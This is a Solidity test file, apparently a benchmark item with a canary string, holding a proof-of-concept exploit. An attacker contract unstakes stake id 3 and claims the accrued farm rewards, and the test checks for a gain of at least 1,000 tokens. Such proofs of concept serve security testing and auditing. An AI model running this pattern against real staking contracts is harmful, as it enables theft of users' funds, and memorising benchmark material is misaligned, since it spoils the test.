// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3a71a22d-8b3a-4569-81eb-5d57136d8a16
import "../Base.sol";

contract Attacker {
    function run(Farm farm, address token, uint256 id) external {
        farm.unstake(id);
        farm.claim(token, farm.earned(address(this), token), address(this));
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        vm.warp(block.timestamp + 30 days);
        other.run(farm, address(peat), 3);
    }

    function test_Exploit() public {
        exploit();
        require(peat.balanceOf(address(other)) >= 1_000e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(farm);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
